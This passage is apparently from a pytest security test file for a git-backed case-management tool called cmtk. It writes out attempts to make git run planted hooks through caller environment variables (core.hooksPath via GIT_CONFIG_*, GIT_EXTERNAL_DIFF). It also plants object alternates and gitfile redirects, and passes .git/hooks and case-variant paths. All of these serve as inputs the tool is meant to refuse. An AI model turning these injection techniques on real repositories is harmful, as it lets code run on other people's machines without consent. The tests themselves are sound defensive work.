# -- Round 5: trying to get around the round-4 fixes -----------------------------------------------------


def test_r5_git_environment_variables_of_the_caller_are_not_obeyed(tmp_path, monkeypatch):
    """GIT_DIR, GIT_INDEX_FILE, GIT_CONFIG_* and GIT_EXTERNAL_DIFF in the environment (a script run from a git
    hook has some of them) must neither redirect cmtk's git nor run anything."""
    from tests.test_sync import _case

    (amina, baraka, _), url = _team(tmp_path)
    marker = tmp_path / "ran"
    hooks = tmp_path / "hooks"
    hooks.mkdir()
    for name in GIT_HOOKS:
        (hooks / name).write_text(f"#!/bin/sh\necho $0 >> {marker}\n")
        (hooks / name).chmod(0o755)
    other = tmp_path / "other.git"
    subprocess.run(["git", "init", "-q", "--bare", str(other)], check=True)
    for key, value in {
        "GIT_DIR": str(other),
        "GIT_WORK_TREE": str(tmp_path),
        "GIT_INDEX_FILE": str(tmp_path / "index"),
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": "core.hooksPath",
        "GIT_CONFIG_VALUE_0": str(hooks),
        "GIT_EXTERNAL_DIFF": str(hooks / "post-commit"),
        "GIT_OBJECT_DIRECTORY": str(other / "objects"),
    }.items():
        monkeypatch.setenv(key, value)
    case_id = _case(amina, "Neema")
    amina.sync()
    baraka.sync()
    assert not marker.exists()
    assert case_id in Store(baraka.root).case_ids()
    assert not (tmp_path / "index").exists()
    assert subprocess.run(["git", "--git-dir", str(other), "rev-parse", "-q", "--verify", "HEAD"]).returncode != 0


def test_r5_a_shared_folder_that_borrows_objects_or_points_elsewhere_is_refused(tmp_path):
    (amina, _, _), url = _team(tmp_path)
    alternates = Path(url) / "objects" / "info" / "alternates"
    alternates.write_text(str(amina.root / ".git" / "objects") + "\n")
    with pytest.raises(CmtkError, match="borrows objects"):
        amina.sync()
    alternates.unlink()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / ".git").write_text(f"gitdir: {url}\n")
    remotes.add_remote(Store(amina.root), "gitfile", str(elsewhere))
    with pytest.raises(CmtkError, match="points to another folder"):
        sync.sync(amina.session(), "gitfile")


def test_r5_a_clone_shares_no_file_with_the_shared_folder(tmp_path):
    """A local clone used to hard-link the shared folder's object files: whoever can write there could then
    change this laptop's objects in place."""
    (amina, _, _), url = _team(tmp_path)
    dan = identity.create(tmp_path / "dan.key")
    from cmtk.team import rotation

    rotation.add_member(amina.session(), "Dan", dan.public)
    amina.sync()
    remotes.clone(url, tmp_path / "dan-laptop", dan)
    objects = [p for p in (tmp_path / "dan-laptop" / ".git" / "objects").rglob("*") if p.is_file()]
    assert objects and all(p.stat().st_nlink == 1 for p in objects)


@pytest.mark.parametrize(
    "path", [".CMTK/templates/print.css", "Cases/AB/ABCDEFGH/x.age", ".cmtk/Templates/x", ".git/hooks/x"]
)
def test_r5_case_variant_and_git_paths_are_refused_at_clone(tmp_path, path):
    from cmtk.team import incoming

    (amina, _, _), _ = _team(tmp_path)
    store = Store(amina.root)
    problems = incoming.path_problems(store, {path: ("100644", "0" * 39 + "1")})
    assert problems and "never writes" in problems[0]
